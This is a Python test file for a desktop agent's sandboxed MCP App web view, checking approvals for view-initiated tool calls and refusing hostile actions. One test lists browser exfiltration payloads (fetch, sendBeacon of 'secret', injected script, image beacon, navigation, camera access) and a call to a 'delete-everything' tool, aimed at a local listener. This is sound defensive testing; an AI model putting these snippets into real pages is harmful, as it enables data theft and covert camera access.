"""An MCP App's view in the real web view (QtWebEngine), talking to the real MCP Apps example server from
npm (`@modelcontextprotocol/server-basic-vanillajs`, its view built with the ext-apps SDK): clicks inside
the view reach the server through the host, each call approved first; what a hostile view tries (another
address, a new window, leaving the page, a tool it may not call) is refused in code. The window does not
place views in the chat yet; these check the view and its host on their own."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtWidgets import QApplication

from desktop_agent.tools.mcp.app_bridge import ViewSession
from desktop_agent.tools.mcp.app_views import read_view, view_call, view_read
from desktop_agent.tools.mcp.manager import McpManager
from desktop_agent.tools.mcp.status import ServerState
from desktop_agent.ui import web_views
from tests.helpers.npm_packages import CACHE, NpmUnavailableError, install_pinned, node_22
from tests.helpers.qt_loop import qt_event_loop
from tests.helpers.view_person import Person
from tests.mcp.conftest import MARKER_VAR, marker, write_config
from tests.mcp.test_app_views import EXAMPLE, EXAMPLE_VERSION

__all__ = ["marker"]  # the fixture, shared: no server outlives its test

ENGINE_NOISE = ("QRhiGles2", "Failed to create RHI", "QVulkanInstance", "GBM is not supported",
                "GPUInfo not initialized")  # fmt: skip
"""The web engine falls back to software rendering on a machine without a GPU (CI's, the offscreen
platform's), and says so: not the view's doing."""
pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(600),  # the first run installs the example server with npm
    pytest.mark.skipif(not web_views.available(), reason="QtWebEngine (PySide6-Addons) is not installed"),
    pytest.mark.qt_log_ignore(*ENGINE_NOISE),
]


@pytest.fixture
def example(tmp_path: Path, marker: str) -> dict[str, Any]:
    try:
        [folder] = install_pinned(CACHE / "mcp-apps", {EXAMPLE: EXAMPLE_VERSION}).values()
        node = node_22()
    except NpmUnavailableError as exc:
        pytest.skip(f"The MCP Apps example server could not be installed with npm: {exc}")
    return {"command": str(node), "args": [str(folder / "dist" / "index.js"), "--stdio"],
            "env": {MARKER_VAR: marker}}  # fmt: skip


@pytest.fixture
def loop(qapp: QApplication) -> Iterator[asyncio.AbstractEventLoop]:
    yield from qt_event_loop(qapp)


async def until(check: Any, limit_s: float = 20.0) -> None:
    for _ in range(int(limit_s / 0.05)):
        if await check():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("the view never got there")


async def in_view(view: Any, script: str) -> Any:
    """Run ``script`` inside the view's own frame (the sandboxed iframe), as a click or a read there."""
    frames = view.page_.mainFrame().children()
    if not frames:
        return None
    done: asyncio.Future[Any] = asyncio.get_running_loop().create_future()

    def settle(value: Any) -> None:
        if not done.done():
            done.set_result(value)

    frames[0].runJavaScript(script, settle)
    return await asyncio.wait_for(done, 10)


@asynccontextmanager
async def shown(tmp_path: Path, entry: dict[str, Any], person: Person) -> AsyncIterator[Any]:
    from desktop_agent.ui.mcp_app_view import McpAppView

    manager = McpManager(write_config(tmp_path / "mcp.json", {"clock": entry}))
    await manager.start()
    try:
        assert manager.status("clock").state is ServerState.UP, manager.status("clock").error
        [catalog] = manager.catalogs()
        view = await read_view(catalog, "ui://get-time/mcp-app.html")
        first = await view_call(catalog, "get-time", {})  # the model's call of the tool
        session = ViewSession(
            "clock", "get-time", {}, first, person,
            lambda name, args: view_call(catalog, name, args), lambda uri: view_read(catalog, uri),
            frozenset({"get-time"}),
        )  # fmt: skip
        widget = McpAppView(view, session)
        widget.resize(600, 520)
        widget.show()
        await until(lambda: _has_text(widget, first["structuredContent"]["time"]))
        try:
            yield widget
        finally:
            widget.dispose()
            await asyncio.sleep(0.2)
    finally:
        await manager.aclose()


async def _has_text(view: Any, text: str) -> bool:
    shown_now = await in_view(view, "document.getElementById('server-time')?.textContent")
    return bool(shown_now == text)


def test_a_click_in_the_view_calls_the_server_once_approved(
    loop: asyncio.AbstractEventLoop, tmp_path: Path, example: dict[str, Any]
) -> None:
    person = Person()

    async def scenario() -> None:
        async with shown(tmp_path, example, person) as view:
            before = await in_view(view, "document.getElementById('server-time').textContent")
            await in_view(view, "document.getElementById('get-time-btn').click(); true")
            await until(lambda: _changed(view, before))
            assert person.approvals == [("clock", "get-time", {})]
            await in_view(view, "document.getElementById('send-message-btn').click(); true")
            await in_view(view, "document.getElementById('open-link-btn').click(); true")
            await until(_true(lambda: bool(person.messages and person.links)))
            assert person.messages == ["This is message text."]
            assert person.links == ["https://modelcontextprotocol.io/"]
            assert person.sizes and person.sizes[-1][1] is not None, "the view said how tall it is"
            view.grab().save(str(tmp_path / "view.png"))

    loop.run_until_complete(scenario())


def test_a_message_the_view_posts_as_the_app_closes_is_dropped_without_an_error(
    loop: asyncio.AbstractEventLoop, tmp_path: Path, example: dict[str, Any]
) -> None:
    """The page's channel may deliver a message after the app's event loop has ended (at quit): nothing
    takes it, and no error reaches Qt's event loop (pytest-qt fails the test on one)."""
    person = Person()

    async def scenario() -> None:
        async with shown(tmp_path, example, person) as view:
            asyncio.set_event_loop(None)  # as after the app's loop ended
            try:
                message = {"jsonrpc": "2.0", "id": 99, "method": "tools/call", "params": {"name": "get-time"}}
                view._channel.post(json.dumps(message))
            finally:
                asyncio.set_event_loop(loop)
            assert not view._pending and person.approvals == [], "nothing was asked or started"

    loop.run_until_complete(scenario())


def test_a_refused_call_reaches_no_server(
    loop: asyncio.AbstractEventLoop, tmp_path: Path, example: dict[str, Any]
) -> None:
    person = Person(allow_calls=False)

    async def scenario() -> None:
        async with shown(tmp_path, example, person) as view:
            before = await in_view(view, "document.getElementById('server-time').textContent")
            await in_view(view, "document.getElementById('get-time-btn').click(); true")
            await until(_true(lambda: bool(person.approvals)))
            await asyncio.sleep(0.5)
            after = await in_view(view, "document.getElementById('server-time').textContent")
            assert after in (before, "[ERROR]"), after

    loop.run_until_complete(scenario())


def test_what_a_hostile_view_tries_is_refused(
    loop: asyncio.AbstractEventLoop, tmp_path: Path, example: dict[str, Any]
) -> None:
    """A view that tries to send what it saw to a server of its choosing (a real one on this computer,
    counting what reaches it), to open a window, to leave its page, or to call a tool it may not."""
    person = Person()
    ask_other_tool = json.dumps({"jsonrpc": "2.0", "id": 99, "method": "tools/call",
                                 "params": {"name": "delete-everything", "arguments": {}}})  # fmt: skip
    attempts = [
        "fetch('{url}/fetch').then(() => {{ window.__fetch = 'sent'; }}, "
        "() => {{ window.__fetch = 'refused'; }})",
        "new Image().src = '{url}/image'",
        "const s = document.createElement('script'); s.src = '{url}/script'; document.head.appendChild(s)",
        "navigator.sendBeacon('{url}/beacon', 'secret')",
        "window.__opened = String(window.open('{url}/window'))",
        "window.top.location.href = '{url}/navigate'",
        "location.href = '{url}/leave'",
        "navigator.mediaDevices.getUserMedia({{video: true}}).then(() => {{ window.__camera = 'on'; }}, "
        "() => {{ window.__camera = 'refused'; }})",
    ]

    async def scenario() -> None:
        with Listener() as listener:
            async with shown(tmp_path, example, person) as view:
                for attempt in attempts:
                    await in_view(view, attempt.format(url=listener.url) + "; true")
                await until(_seen(view, "window.__fetch"))
                assert await in_view(view, "window.__fetch") == "refused"
                assert await in_view(view, "window.__opened") == "null"
                await until(_seen(view, "window.__camera"))
                assert await in_view(view, "window.__camera") == "refused"
                answer = await view.session.receive(ask_other_tool)
                assert answer is not None and answer["error"]["message"] == "Unknown tool: delete-everything"
                await asyncio.sleep(1.0)
                assert await in_view(view, "document.getElementById('get-time-btn') !== null"), (
                    "still the view"
                )
            assert listener.paths == [], "nothing the view tried reached the network"
            assert person.approvals == [], "nothing was asked: nothing got that far"

    loop.run_until_complete(scenario())


class Listener:
    """A real HTTP server on this computer that records every request it gets."""

    def __init__(self) -> None:
        import http.server
        import threading

        paths = self.paths = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def _seen(view: Any, expression: str) -> Any:
    async def check() -> bool:
        return bool(await in_view(view, f"typeof {expression} !== 'undefined'"))

    return check


async def _changed(view: Any, before: str) -> bool:
    now = await in_view(view, "document.getElementById('server-time').textContent")
    return bool(now) and now != before


def _true(check: Any) -> Any:
    async def asked() -> bool:
        return bool(check())

    return asked
